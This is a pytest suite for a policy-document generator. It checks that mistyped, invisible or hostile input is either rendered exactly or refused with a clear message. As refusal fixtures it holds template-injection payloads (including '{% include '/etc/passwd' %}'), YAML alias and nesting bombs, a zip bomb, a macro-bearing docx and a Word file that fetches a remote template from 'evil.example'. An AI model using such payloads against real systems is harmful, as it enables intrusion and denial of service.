"""Bad input: what people paste, mistype and attack with. It is printed exactly, or refused by name; never half done."""

import io
import json
import unicodedata
import zipfile
from dataclasses import replace
from functools import cache
from pathlib import Path

import docx
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from policygen import workflow
from policygen.assembly.assemble import Assembled
from policygen.cli.main import run
from policygen.content.answer_reader import AnswerReader
from policygen.content.answer_text import RefusedError, plain_text
from policygen.errors import PolicygenError
from policygen.render import fonts
from policygen.verify import docx_reading, pdf_checks
from tests import samples
from tests.samples import CODE, EXAMPLES, HOSTILE, POLICY, VENDOR, issue, rendered

STAND_IN = "Zyxxyz"
UNSEEN = "".join(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0xFEFF]))


# --- any printable text ---------------------------------------------------------------------------------------------


def printable() -> st.SearchStrategy[str]:
    """Texts that the question takes: no control, private or direction characters, nothing unassigned."""
    plain = st.characters(exclude_categories=("Cc", "Cs", "Co", "Cn", "Zl", "Zp"), exclude_characters=UNSEEN)
    marked = st.sampled_from(list("*_`[]()<>&|#+-.!~\\\"'{}%$^=:;@/ 0123456789")) | st.sampled_from(
        [
            "{{ 7*7 }}",
            "{% raw %}",
            "</w:t>",
            "<!--",
            "]]>",
            "&amp;",
            "&#x41;",
            "![",
            "](",
            "**",
            "__",
            "```",
            "<br>",
            "1. ",
            "- ",
            "  ",
        ]
    )
    return st.lists(plain | marked, min_size=1, max_size=40).map("".join).filter(_taken)


def _taken(text: str) -> bool:
    try:
        return plain_text(text) == text and any(_visible(character) for character in text)
    except RefusedError:
        return False


def _visible(character: str) -> bool:
    return not character.isspace() and unicodedata.category(character) not in ("Cf", "Mn", "Me")


@cache
def _stand_in() -> dict[str, str]:
    return _texts(STAND_IN)


def _texts(name: str) -> dict[str, str]:
    """What Word, HTML and Markdown of the shop's code and short terms show, white space made one."""
    changes = {"organisation.name": name, "contacts.senior.post": f"Senior {name}"}
    made = rendered(issue("corner-shop", changes, documents=(CODE, f"{VENDOR}-small")), "docx", "html", "md")
    return {path: _text(path, artifact.data) for path, artifact in made.items()}


def _text(path: str, data: bytes) -> str:
    if path.endswith(".docx"):
        return "\n".join(" ".join(line.split()) for line in docx_reading.lines(data))
    page = data.decode() if path.endswith(".html") else MarkdownIt("commonmark").enable("table").render(data.decode())
    return " ".join(samples.page_text(page).split())


@given(printable())
def test_any_printable_text_reads_exactly_in_word_html_and_markdown(text: str) -> None:
    _check_pages(text)


@given(printable())
def test_any_text_the_fonts_hold_reads_exactly_in_the_pdf_and_any_other_is_refused_by_name(text: str) -> None:
    _check_pdf(text)


@pytest.mark.slow
@settings(max_examples=150)
@given(printable())
def test_many_other_texts_read_exactly_too(text: str) -> None:
    _check_pages(text)
    _check_pdf(text)


def _check_pages(text: str) -> None:
    """The documents of two organisations differ in the name alone, to the character."""
    assume(STAND_IN not in text)
    found = _texts(text)
    for path, expected in _stand_in().items():
        assert found[path].split() == expected.replace(STAND_IN, text).split(), path


def _check_pdf(text: str) -> None:
    """The name reads exactly, or question, character and code point are said and the other formats are made."""
    made = issue("corner-shop", {"organisation.name": text}, documents=(CODE,))
    main = replace(made.job, planned=made.job.planned[:1])
    artifacts, missing, findings = workflow.render_all(
        workflow.Issue(main, made.assembled[:1], made.accounts), workflow.Request(answers=Path("answers.yaml"))
    )
    pdf = next((a.data for a in artifacts if a.path.endswith(".pdf")), b"")
    lacking = fonts.missing(text)
    if not lacking:
        shown = "".join(pdf_checks.words(pdf))
        assert _markless(text) in _markless(shown)
        assert set(text) - set(" \u00a0") <= set(shown) | set(_blank(text))
        return
    assert pdf == b""
    assert set(missing) == {f"{CODE}.en.pdf"}
    assert {a.path.rsplit(".", 1)[1] for a in artifacts} == {"docx", "html", "md"}
    said = "\n".join(str(finding) for finding in findings)
    assert "organisation.name" in said
    for character in lacking:
        assert f'"{character}" (U+{ord(character):04X})' in said


def _markless(text: str) -> str:
    """Without spaces and combining marks: a mark on a sign it has no place on is drawn once, yet copied out twice."""
    return "".join(c for c in _spaceless(text) if not unicodedata.category(c).startswith("M"))


def _blank(text: str) -> str:
    """The characters of a text that leave no ink."""
    return "".join(c for c in text if c.isspace() or unicodedata.category(c) == "Cf")


def _spaceless(text: str) -> str:
    """Without white space and the marks that only a line breaker sees: a PDF keeps neither."""
    text = text.replace("\u00ad", "").replace("\u2060", "")
    return "".join(unicodedata.normalize("NFC", text).split())


# --- names that people have -------------------------------------------------------------------------------------------


def _prints_it(one: Assembled) -> bool:
    return any(HOSTILE in value.text for written in one.written for value in written.body.values)


@pytest.mark.parametrize("example", EXAMPLES)
def test_a_hostile_name_and_post_read_exactly_in_all_formats_of_all_documents(example: str) -> None:
    contact = next(iter(samples.data(example)["contacts"]))
    made = issue(example, {"organisation.name": HOSTILE, f"contacts.{contact}.post": HOSTILE})
    files = rendered(made)
    assert {path for p in made.job.planned for path in (f"{p.stem}.{f}" for f in p.formats)} == set(files)
    printed = {p.stem for p, one in zip(made.job.planned, made.assembled, strict=True) if _prints_it(one)}
    assert {f"{POLICY}.en", f"{CODE}.en", f"{VENDOR}.en", "incident-log.en"} <= printed
    for path, artifact in ((path, found) for path, found in files.items() if path.rpartition(".")[0] in printed):
        if path.endswith(".pdf"):
            assert _spaceless(HOSTILE) in _spaceless("".join(pdf_checks.words(artifact.data))), path
        else:
            assert HOSTILE in _text(path, artifact.data), path
            assert "49" not in _text(path, artifact.data).replace("3350", "").split(), path


@pytest.mark.parametrize(
    "name",
    ["W" * 300, "Very Long Name " * 20, "x" * 150 + " " + "y" * 149, "髙" * 300, "ﬁ" * 300],
    ids=["wide", "words", "two words", "japanese", "ligatures"],
)
def test_names_of_300_characters_are_set_in_every_format(name: str) -> None:
    made = issue("corner-shop", {"organisation.name": name.strip(), "contacts.owner.post": name.strip()})
    files = rendered(made)
    assert {f"{stem}.en.{kind}" for stem in (POLICY, CODE, VENDOR) for kind in ("docx", "pdf", "html", "md")} <= set(
        files
    )
    for stem in (POLICY, CODE, VENDOR):
        assert _spaceless(name) in _spaceless("".join(pdf_checks.words(files[f"{stem}.en.pdf"].data)))


@pytest.mark.parametrize("name", ["שלום מרכז", "مركز السلام Ltd", "Ltd שלום 123 (ABC)"])
def test_right_to_left_text_reads_in_the_order_it_was_typed(name: str) -> None:
    made = rendered(issue("corner-shop", {"organisation.name": name}, documents=(POLICY,)), "docx", "html", "md")
    assert len(made) == 3
    for path, artifact in made.items():
        assert name in _text(path, artifact.data)


def test_a_sheet_that_would_overflow_is_left_out_and_says_which_clause_could_go(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clause = f"---\nid: long-story\nversion: 1\nslot: {CODE}/wall-please\n---\n" + "A long story. " * 300 + "\n"
    own = _own(tmp_path, {"templates/clauses/long-story.en.md": clause})
    command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-d", f"{CODE}-wall"]
    assert run([*command, "--content", str(own)]) == 1
    told = capsys.readouterr().err
    assert "does not fit on one page of A4" in told
    assert "leave out `long-story`" in told
    assert list(json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))["missing"]) == [f"{CODE}-a4.en.pdf"]


# --- what no font holds -----------------------------------------------------------------------------------------------


def test_an_emoji_leaves_out_the_pdf_alone_and_names_question_character_and_code_point(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    answers = samples.file(tmp_path, "corner-shop", {"organisation.name": "Bellbird 🐦 Store"})
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-d", POLICY]) == 1
    told = capsys.readouterr().err
    for words in ("organisation.name", '"🐦"', "U+1F426", "--font"):
        assert words in told
    made = {path.name for path in (tmp_path / "out").glob(f"{POLICY}.*")}
    assert made == {f"{POLICY}.en.{kind}" for kind in ("docx", "html", "md")}
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))
    assert list(manifest["missing"]) == [f"{POLICY}.en.pdf"]
    assert "U+1F426" in manifest["missing"][f"{POLICY}.en.pdf"]
    for page in ("START-HERE.html", "README.md"):
        assert f"{POLICY}.en.pdf: no font" in _text(page, (tmp_path / "out" / page).read_bytes())


@pytest.mark.parametrize(
    ("character", "code", "words"),
    [
        ("\u202e", "U+202E", "turns the direction"),
        ("\u2067", "U+2067", "turns the direction"),
        ("\x1b", "U+001B", "a control character"),
        ("\x7f", "U+007F", "a control character"),
        ("\x9b", "U+009B", "a control character"),
        ("\t", "U+0009", "a tab"),
        ("\U000f0000", "U+F0000", "plane 15 or 16"),
        ("\U00100000", "U+100000", "plane 15 or 16"),
        ("\U0010fffd", "U+10FFFD", "plane 15 or 16"),
    ],
)
def test_a_character_that_nobody_can_see_is_refused_at_its_question(
    character: str, code: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    answers = samples.file(tmp_path, "corner-shop", {"organisation.name": f"Bell{character}bird"})
    assert run(["build", str(answers), "-o", str(tmp_path / "out")]) == 1
    told = capsys.readouterr().err
    assert code in told
    assert words in told
    assert "answers.yaml:" in told
    assert "organisation.name" in told
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", ["\u00ad", "\u200b\u200b", "\u200d", "\u2060", "\ufe0f", "\u00a0", "\u3000"])
def test_a_name_of_which_nothing_can_be_seen_is_no_name(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    answers = samples.file(tmp_path, "corner-shop", {"organisation.name": name})
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-d", CODE, "-f", "md"]) == 1
    assert "organisation.name" in capsys.readouterr().err


# --- answers ------------------------------------------------------------------------------------------------------------


def _build(tmp_path: Path, text: str, *more: str) -> int:
    (tmp_path / "answers.yaml").write_text(text, "utf-8")
    return run(["build", str(tmp_path / "answers.yaml"), "-o", str(tmp_path / "out"), *more])


def test_the_word_no_is_text_where_text_is_asked(tmp_path: Path) -> None:
    text = samples.text("corner-shop").replace("name: Bellbird Corner Store", "name: no")
    assert _build(tmp_path, text, "-d", POLICY, "-f", "md") == 0
    assert "no" in (tmp_path / "out" / f"{POLICY}.en.md").read_text("utf-8")


@pytest.mark.parametrize(
    ("found", "instead", "words"),
    [
        ("industry: retail", "industry: retail\n  industry: ngo", '"industry" stands here twice'),
        ("industry: retail", "industry: retial", 'Did you mean "retail"?'),
        ("industry: retail", "indutsry: retail", 'Did you mean "industry"?'),
        ("law: au-vic", "law: au-vc", 'Did you mean "au-vic"?'),
        ("- suppliers", "- supliers", 'Did you mean "suppliers"?'),
        ("finds_facts: owner", "finds_facts: ower", 'Did you mean "owner"?'),
        ("hr: false", "hr: no", "Write false, without quotation marks."),
        ("version: 1\n", "version: 7\n", "version 7 is not known"),
        ("version: 1\n", "version: 1\nbomb: &a [x]\n" + f"more: [{', '.join(['*a'] * 150)}]\n", "more than 100 aliases"),
        ("version: 1\n", "version: 1\ndeep: " + "[" * 60_000 + "]" * 60_000 + "\n", "levels deep"),
    ],
)  # fmt: skip
def test_a_broken_answers_file_is_refused_with_line_and_what_would_be_right(
    found: str, instead: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert found in samples.text("corner-shop")
    assert _build(tmp_path, samples.text("corner-shop").replace(found, instead, 1)) == 1
    told = capsys.readouterr().err
    assert words in told
    assert "answers.yaml:" in told
    assert not (tmp_path / "out").exists()


def test_missing_answers_are_all_named_and_a_draft_marks_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    changes = {"reporting.finds_facts": samples.GONE, "issue.owner": samples.GONE}
    text = samples.text("corner-shop", changes)
    assert _build(tmp_path, text) == 1
    told = capsys.readouterr().err
    assert "`reporting.finds_facts` has no answer" in told
    assert "`issue.owner` has no answer" in told
    assert not (tmp_path / "out").exists()
    assert _build(tmp_path, text, "--draft") == 0
    page = (tmp_path / "out" / f"{POLICY}.en.html").read_text("utf-8")
    assert "[to be completed" in page
    assert json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))["draft"] is True


@pytest.mark.parametrize("raw", [b"", b"\xff\xfea\x00", b"\x00" * 100, b"just a sentence", b"- a\n- b\n", b"%PDF-1.7"])
def test_a_file_that_holds_no_answers_is_refused_in_words(
    raw: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "answers.yaml").write_bytes(raw)
    assert run(["build", str(tmp_path / "answers.yaml"), "-o", str(tmp_path / "out")]) == 1
    assert "hint:" in capsys.readouterr().err


GONE = samples.GONE
IN_NZ = {"places.shop.law": "nz", "places.shop.emergency": "111"}
LONG_NAME = (
    "The International Network of Lanterns for Children, Families and Friends Everywhere in the World and Beyond It"
)


@pytest.mark.parametrize(
    ("changes", "question", "wrong", "mend"),
    [
        ({"reporting.about_management": GONE}, "reporting.about_management",
         "Who receives a report about a manager or the owner?", "write `nobody` where there is nobody else"),
        ({"reporting.about_management": "owner"}, "reporting.about_management",
         "a report about the Owner would go to the Owner", "write `about_management: nobody`"),
        ({"reporting.channels": ["owner"], "reporting.about_management": "senior"}, "reporting.channels",
         "people can tell only one contact", "write `about_management: nobody`"),
        ({"reporting.channels": ["supervisor"]}, "reporting.channels",
         "people can tell only their own supervisor", "Add one of your contacts"),
        ({"response.reply_or_appeal.to": GONE}, "response.reply_or_appeal.to",
         "To whom does a customer or visitor turn", "write `nobody` where there is nobody else"),
        ({"response.reply_or_appeal.to": "supervisor"}, "response.reply_or_appeal.to",
         "a different person for each worker", "Where there is nobody else, write nobody."),
        ({"response.longest_ban": "99 years"}, "response.longest_ban", "is too long", "The most is 5 years."),
        ({**IN_NZ, "response.longest_ban": "3 years"}, "response.longest_ban",
         "Look at a trespass notice again before its time is over.", "no more than the time"),
        ({"response.who_may_order": "nobody"}, "response.who_may_order",
         "somebody has to do it", "written contact only, or a ban? Name one of your contacts: owner, senior."),
        ({"response.who_may_order": GONE}, "response.who_may_order", "Who may order a limit", "Add it to the answers"),
        ({"reporting.decides": "nobody"}, "reporting.decides", "somebody has to do it", "Who decides what is done?"),
        ({"contacts.senior": {"post": "Senior sales assistant"}}, "contacts.senior.phone",
         "there is no way to reach Senior sales assistant", "write `ways: [talk]`"),
        ({"contacts.senior": {"post": "Senior sales assistant", "ways": ["form"]}}, "contacts.senior.phone",
         "there is no way to reach Senior sales assistant", "Add `contacts.senior.phone`"),
        ({"contacts.senior": {"post": "Senior", "ways": ["email"], "phone": "+61 3 5550 0131"}}, "contacts.senior.ways",
         "Senior is to be reached by email, and there is no email address", "Add `contacts.senior.email`"),
        ({"public_contact.phone": GONE, "public_contact.email": GONE}, "public_contact.phone or public_contact.email",
         "should the public use?", "hello@clinic.example"),
    ],
)  # fmt: skip
def test_an_answer_that_makes_a_document_impossible_is_refused_with_the_question_and_what_to_do(
    changes: dict[str, object], question: str, wrong: str, mend: str, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    answers = samples.file(tmp_path, "corner-shop", changes)
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-f", "md"]) == 1
    told = capsys.readouterr().err
    for words in (question, wrong, mend):
        assert words in told, told
    assert not (tmp_path / "out").exists()


def test_a_small_shop_may_say_that_nobody_stands_above_and_the_documents_say_it(tmp_path: Path) -> None:
    answers = samples.file(tmp_path, "corner-shop", {"reporting.channels": ["owner"]})
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-d", POLICY, "-f", "md"]) == 0
    said = (tmp_path / "out" / f"{POLICY}.en.md").read_text("utf-8")
    assert "nobody here stands above this post. An outside body in the annex can help you." in said


HEARD_BY_THE_SAME = (POLICY, CODE, "letter-to-customer", "letter-refusal")


@pytest.mark.parametrize("who", ["nobody", "owner"])
def test_where_nobody_else_can_hear_an_objection_every_document_says_that_it_may_be_the_same_person(who: str) -> None:
    made = issue("corner-shop", {"response.reply_or_appeal.to": who})
    said = {path: made.data.decode() for path, made in rendered(made, "md").items()}
    for name in HEARD_BY_THE_SAME:
        assert "may be the same person who" in said[f"{name}.en.md"], name
    for path, text in said.items():
        assert "Nobody answers an objection to their own decision" not in text, path
        assert "somebody who did not answers" not in text, path


def test_a_contact_to_talk_to_needs_no_number(tmp_path: Path) -> None:
    changes = {"contacts.senior": {"post": "Senior sales assistant", "ways": ["talk"]}}
    answers = samples.file(tmp_path, "corner-shop", changes)
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-d", POLICY, "-f", "md"]) == 0


def test_the_interview_shows_at_its_end_what_makes_a_document_impossible(tmp_path: Path) -> None:
    changes = {"reporting.about_management": "owner", "contacts.senior": {"post": "Senior sales assistant"}}
    told = AnswerReader(samples.library()).problems(samples.file(tmp_path, "corner-shop", changes))
    assert [d.message for d in told] == [
        "there is no way to reach Senior sales assistant",
        "a report about the Owner would go to the Owner",
    ]


@pytest.mark.parametrize(
    ("id_", "answer", "wrong"),
    [
        ("response.longest_ban", "99 years", "is too long"),
        ("response.who_may_order", "nobody", "somebody has to do it"),
    ],
)
def test_the_interview_refuses_at_its_question_what_cannot_be(id_: str, answer: str, wrong: str) -> None:
    question = next(one for one in samples.library().questions() if one.id == id_)
    with pytest.raises(PolicygenError, match=wrong):
        AnswerReader(samples.library()).check(question, answer, samples.data("corner-shop"))


def test_a_sheet_with_too_long_a_text_is_left_out_and_the_clause_that_could_go_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    changes = {"organisation.short_name": LONG_NAME, "places.melbourne.public_phone": GONE}
    answers = samples.file(tmp_path, "childrens-network", changes)
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-d", f"{CODE}-wall"]) == 1
    told = capsys.readouterr().err
    assert f"{CODE}-wall" in told
    assert "does not fit on one page of Letter" in told
    assert "leave out `ngo-no-child` and it fits" in told
    assert "its longest answer is `organisation.short_name`" in told
    assert f"{CODE}-letter.en.pdf" in json.loads((tmp_path / "out" / "manifest.json").read_text("utf-8"))["missing"]


def test_of_a_sheet_whose_clauses_must_all_stay_the_longest_is_named_to_be_shortened() -> None:
    many = [
        {"what": f"Counsellor {n}, who listens", "reach": "+61 3 5550 0150", "hours": "Monday to Friday"}
        for n in range(24)
    ]
    made = issue("childrens-network", {"support.services": many}, documents=("consultation-desk-notice-sheet",))
    _, missing, findings = workflow.render_all(made, workflow.Request(answers=Path("answers.yaml")))
    assert missing
    assert all("desk-no-loss" in finding.hint and "must stay" in finding.hint for finding in findings)


def test_japanese_documents_before_their_law_are_refused_with_the_day_from_which_they_can_be_built(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    answers = samples.file(tmp_path, "sakura-retail", {"law_as_of": "2026-09-30"})
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "-f", "md"]) == 1
    told = capsys.readouterr().err
    assert "can be built from 2026-10-01 on" in told
    assert "Write `law_as_of: 2026-10-01`" in told
    assert "PG-D020" not in told
    assert "PG-D001" not in told


# --- content of others --------------------------------------------------------------------------------------------------


def _own(tmp_path: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        path = tmp_path / "own" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8")
    return tmp_path / "own"


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("{{ organisation.__class__.__mro__ }}", 'a name may not start with "_"'),
        ("{{ cycler.__init__.__globals__ }}", 'a name may not start with "_"'),
        ("{% for i in range(1000000000) %}x{% endfor %}", "Call is not part of the language"),
        ("{% for a in contacts %}{% for b in contacts %}" * 12 + "x" * 400 + "{% endfor %}{% endfor %}" * 12, "grows beyond"),
        ("{% include '/etc/passwd' %}", "`Include` is not part of the language"),
        ("Before \U00100000 after", "a character reserved for values"),
    ],
)  # fmt: skip
def test_a_clause_that_attacks_is_refused_with_its_file(
    body: str, words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clause = f"---\nid: ours\nversion: 1\nslot: {POLICY}/steps\n---\n{body}\n"
    own = _own(tmp_path, {"templates/clauses/ours.en.md": clause})
    answers = samples.file(tmp_path, "childrens-network")
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "--content", str(own), "-d", POLICY]) == 1
    told = capsys.readouterr().err
    assert words in told
    assert "templates/clauses/ours.en.md:6" in told
    assert not (tmp_path / "out").exists()


def test_two_packs_that_name_one_clause_are_refused_showing_both(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clause = f"---\nid: one-rule\nversion: 1\nslot: {POLICY}/annex-rules\n---\nText.\n"
    pack = "code: {}\nname: {}\nlocale: en-GB\npaper: a4\nchecked_on: 2026-11-01\nreview_by: 2027-11-01\n"
    files = {f"jurisdictions/{code}/clauses/one-rule.en.md": clause for code in ("xa", "xb")}
    own = _own(tmp_path, {**files, **{f"jurisdictions/{c}/pack.yaml": pack.format(c, c * 3) for c in ("xa", "xb")}})
    assert run(["content", "check", str(own)]) == 1
    told = capsys.readouterr().err
    assert all(name in told for name in files)


def test_two_clauses_of_one_layer_that_replace_one_are_refused_showing_both(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    clause = (
        "---\nid: {}\nversion: 1\nslot: "
        + POLICY
        + "/commitment\nreplaces: our-commitment\nsupplies: [POL-01]\n---\nOurs.\n"
    )
    files = {f"templates/clauses/{name}.en.md": clause.format(name) for name in ("first", "second")}
    answers = samples.file(tmp_path, "childrens-network")
    assert run(["build", str(answers), "-o", str(tmp_path / "out"), "--content", str(_own(tmp_path, files))]) == 1
    told = capsys.readouterr().err
    assert 'both change "our-commitment"' in told
    assert all(name in told for name in files)


# --- folders -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("out", ["taken", "taken/below"])
def test_an_output_folder_that_cannot_be_written_is_named_and_nothing_is_left(
    out: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "taken").write_text("a file stands here")
    assert run(["build", str(samples.example("corner-shop")), "-o", str(tmp_path / out), "-d", CODE, "-f", "md"]) == 1
    assert str(tmp_path / out) in capsys.readouterr().err
    assert [path.name for path in tmp_path.iterdir()] == ["taken"]


# --- letterheads -------------------------------------------------------------------------------------------------------


def _letterhead(folder: Path, **parts: bytes) -> Path:
    """A plain Word file, with parts added or replaced; `__` in a name stands for `/`."""
    packed, path = io.BytesIO(), folder / "letterhead.docx"
    docx.Document().save(packed)
    with zipfile.ZipFile(packed) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        added = {name.replace("__", "/"): data for name, data in parts.items()}
        for name in old.namelist():
            if name not in added:
                new.writestr(name, old.read(name))
        for name, data in added.items():
            new.writestr(name, data)
    return path


EXTERNAL = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def _shells(folder: Path) -> dict[str, Path]:
    plain = folder / "plain.docx"
    plain.write_bytes(b"I am a letter, not a Word file.")
    return {
        "this is not a .docx file": plain,
        "unpacks to more than": _renamed(_letterhead(folder, word__bomb=b"\0" * 200_000_000), "bomb"),
        "it holds a macro": _renamed(
            _letterhead(folder, word__vbaProject_bin=b"x", **{"word__vbaProject.bin": b"x"}), "macro"
        ),
        "https://evil.example/t.dotm": _renamed(
            _letterhead(folder, **{"word___rels__settings.xml.rels": EXTERNAL}), "outside"
        ),
    }


def _renamed(path: Path, name: str) -> Path:
    return path.rename(path.with_name(f"{name}.docx"))


def test_a_dangerous_letterhead_is_refused_by_the_check_and_by_the_build(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for words, shell in _shells(tmp_path).items():
        assert run(["shell", "check", str(shell)]) == 1, words
        assert words in capsys.readouterr().err
        command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-d", CODE, "-f", "docx"]
        assert run([*command, "--shell", str(shell)]) == 1, words
        told = capsys.readouterr().err
        assert words in told
        assert "has a bug" not in told
        assert not list((tmp_path / "out").glob("*.docx"))


def test_a_letterhead_that_is_not_there_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-f", "docx", "-d", CODE]
    assert run([*command, "--shell", str(tmp_path / "none.docx")]) == 1
    assert "none.docx" in capsys.readouterr().err


def test_a_safe_letterhead_is_used(tmp_path: Path) -> None:
    command = ["build", str(samples.example("corner-shop")), "-o", str(tmp_path / "out"), "-f", "docx", "-d", CODE]
    assert run([*command, "--shell", str(_letterhead(tmp_path))]) == 0
    assert (tmp_path / "out" / f"{CODE}.en.docx").is_file()
